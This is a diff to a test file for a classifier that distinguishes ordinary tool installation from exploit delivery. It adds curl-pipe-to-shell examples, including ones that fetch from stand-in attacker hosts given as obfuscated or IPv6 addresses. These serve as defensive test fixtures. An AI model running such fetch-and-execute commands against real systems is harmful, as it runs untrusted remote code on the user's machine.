@@ -92,6 +92,8 @@ def test_a_fetched_install_script_is_not_an_executable_link():
     "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
     "curl -sSL https://example.com/page | bash",  # a documentation domain serves nothing
     "curl -fsSL http://localhost:8080/setup.sh | sh",  # the writer's own machine
+    "curl -s $URL | bash",  # no host anywhere: nothing to judge
+    "curl -sSL [<-LINK->] | sh",  # a log whose link was cut
 ])
 def test_installing_a_tool_the_usual_way_is_not_exploit_delivery(text):
     assert not {r for r in rules(text) if r.startswith("malware.")}
@@ -109,6 +111,7 @@ def test_installing_a_tool_the_usual_way_is_not_exploit_delivery(text):
     "U=https://evil.xyz/i; curl -fsSL $U | bash",
     "curl -s http://3105313793/x.sh | sh",
     "curl -s 0xb9.0x17.0x2c.0x01/x | sh",
+    "curl -s [2a01:4f8:c0c:1::1]/x | sh",
 ])
 def test_a_script_from_anywhere_else_piped_into_a_shell_is_caught(text):
     assert "malware.exploit_delivery" in rules(text)
